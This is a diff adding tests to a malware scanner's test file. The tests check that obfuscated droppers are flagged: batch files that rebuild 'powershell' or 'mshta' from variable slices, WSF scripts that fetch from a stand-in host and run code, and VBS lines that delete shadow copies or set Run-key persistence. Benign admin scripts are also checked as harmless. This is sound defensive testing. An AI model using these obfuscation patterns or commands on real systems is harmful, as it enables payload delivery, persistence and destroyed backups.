@@ -3,6 +3,7 @@
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
 import { ourInspector, useInspector } from '#inspect/testing/inspector.ts'
+import { docx } from '#inspect/testing/samples.ts'
 import { writeZip } from '#inspect/testing/zip-writer.ts'
 import { decodeScripts } from './encoder.ts'
 
@@ -71,6 +72,18 @@ suite('a script that starts programs', () => {
       'Script.Dropper',
     )
   })
+  test('in a script component of two languages', () => {
+    const fetching =
+      'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://example.com/a", false); x.send()'
+    const starting = 'Set s = CreateObject("WScript.Shell")\ns.Run target'
+    has(
+      packed(
+        'a.wsf',
+        `<job><script language="JScript">${fetching}</script><script language="VBScript">${starting}</script></job>`,
+      ),
+      'Script.Dropper',
+    )
+  })
   test('in PowerShell, hidden', () => {
     has(
       packed('a.ps1', '$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("YQ=="))\niex $a\n'),
@@ -93,6 +106,110 @@ suite('a script that starts programs', () => {
     has(packed('a.bat', '@echo off\r\nmshta http://example.com/a.hta\r\n'), 'Script.Program'))
   test('in a batch file with carets', () =>
     has(packed('a.bat', '@echo off\r\np^o^w^e^r^s^h^e^l^l -w hidden -c calc\r\n'), 'Script.Program'))
+})
+
+suite('a batch file that hides its commands in variables', () => {
+  const cases: [string, string][] = [
+    ['in pieces', '@e^c^h^o off\r\nset a=pow\r\nset b=ersh\r\nset "c=ell"\r\n%a%%b%%c% -nop -w hidden -c calc\r\n'],
+    [
+      'in parts of others',
+      '@echo off\r\nset s=lehsrewop\r\n%s:~8,1%%s:~7,1%%s:~6,1%%s:~-4,1%%s:~4,1%%s:~3,1%hell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0\r\n',
+    ],
+    ['with replaced letters', 'set x=mZsZhta h@@p://example.com/a.hta\r\nset x=%x:Z=%\r\ncall %x:@=t%\r\n'],
+    [
+      'in a loop',
+      'setlocal enabledelayedexpansion\r\nset s=atshm\r\nset r=\r\nfor %%i in (4 2 3 1 0) do set r=!r!!s:~%%i,1!\r\n!r! http://example.com/a\r\n'.replace(
+        '4 2 3 1 0',
+        '4 2 3 1 0',
+      ),
+    ],
+    [
+      'in letters of Windows',
+      '%COMSPEC:~-1%cho off\r\n%PUBLIC:~4,1%et q=hta\r\nset m=m\r\nset n=s\r\n%m%%n%%q% http://example.com/a.hta\r\n',
+    ],
+  ]
+  for (const [name, text] of cases) test(name, () => has(packed('a.cmd', text), 'Script.Program'))
+})
+
+suite('scripts of administrators and builds', () => {
+  const shell = (...lines: string[]) => ['Set sh = CreateObject("WScript.Shell")', ...lines].join('\r\n')
+  const cases: [string, string][] = [
+    [
+      'backup.vbs',
+      shell(
+        'src = sh.ExpandEnvironmentStrings("%USERPROFILE%") & "\\Documents"',
+        'sh.Run "robocopy """ & src & """ ""D:\\Backup"" /MIR", 1, True',
+      ),
+    ],
+    [
+      'drives.vbs',
+      shell(
+        'sh.Run "net use Z: \\\\files\\share /persistent:yes", 0, True',
+        'sh.Run "cmd /c ipconfig /all > C:\\log.txt", 0, True',
+      ),
+    ],
+    [
+      'tasks.vbs',
+      shell(
+        'Set e = sh.Exec("schtasks /query /fo csv")',
+        'sh.Run "reg query HKLM\\Software\\A"',
+        'sh.Run "msiexec /i ""D:\\setup\\app.msi"" /qn", 1, True',
+      ),
+    ],
+    [
+      'build.js',
+      'var sh = new ActiveXObject("WScript.Shell");\nvar out = "dist";\nsh.Run("makensis /DOUT=" + out + " setup.nsi", 1, true);\nsh.Run("git describe --tags", 0, true);\n',
+    ],
+    [
+      'build.wsf',
+      '<job id="build"><script language="JScript">var sh = new ActiveXObject("WScript.Shell"); sh.Run("7z a out.zip src", 1, true)</script></job>',
+    ],
+    [
+      'mvnw.cmd',
+      '@echo off\r\n@setlocal\r\nset MAVEN_CMD_LINE_ARGS=%*\r\nset JAVA_EXE=java.exe\r\nif "%JAVA_HOME%"=="" goto end\r\nset JAVA_EXE=%JAVA_HOME%\\bin\\java.exe\r\n"%JAVA_EXE%" -classpath "%CLASSPATH%" org.gradle.wrapper.GradleWrapperMain %*\r\n:end\r\n',
+    ],
+    [
+      'backup.bat',
+      '@echo off\r\nset SRC=%USERPROFILE%\\Documents\r\nset DST=\\\\nas\\backup\r\nrobocopy "%SRC%" "%DST%" /MIR\r\n7z a %DST%\\a.7z "%SRC%"\r\nschtasks /query\r\n%ComSpec% /c echo done\r\n',
+    ],
+    [
+      'clean.ps1',
+      'Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item\n"{0} {1}" -f "a", "b"\n',
+    ],
+  ]
+  for (const [name, text] of cases)
+    for (const method of ['stored', 'deflated'] as const)
+      test(`${name} is harmless (${method})`, () =>
+        harmless(
+          writeZip([
+            { name, data: text, method },
+            { name: 'readme.txt', data: 'text' },
+          ]),
+        ))
+
+  test('that create a shell in a page or document are malicious', () => {
+    const shell = '<script>var s = new ActiveXObject("WScript.Shell")</script>'
+    has(docx({ 'word/a.html': `<html>${shell}</html>` }), 'Script.ShellObject')
+    has(Buffer.from(`<html>${shell}</html>`), 'Script.ShellObject')
+  })
+  test('that start another program are suspicious', () => {
+    for (const line of ['sh.Run "C:\\Program Files\\App\\app.exe"', 'sh.Run """" & WScript.Arguments(0) & """"'])
+      assert.deepEqual(accusations(packed('a.vbs', shell(line))), ['Script.Start'])
+  })
+  const threats = [
+    'sh.Run "powershell -w hidden -c calc", 0',
+    'sh.Run "mshta http://example.com/a"',
+    'sh.Run "%TEMP%\\a.exe"',
+    'sh.Run "robocopy \\\\192.0.2.1\\a C:\\b"',
+    'sh.Run "cmd /c copy a b & rundll32 b,Start", 0',
+    'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "C:\\a.exe"',
+    'sh.Run "vssadmin delete shadows /all"',
+    'sh.Run "cmd /c echo a"',
+    'sh.Run Replace("poZwershell -c calc", "Z", "")',
+  ]
+  for (const line of threats)
+    test(`but not ${line}`, () =>
+      has(packed('a.vbs', shell(line)), line.includes('http:') ? 'Script.Dropper' : 'Script.Program'))
 })
 
 suite('a script that only fetches is suspicious', () => {
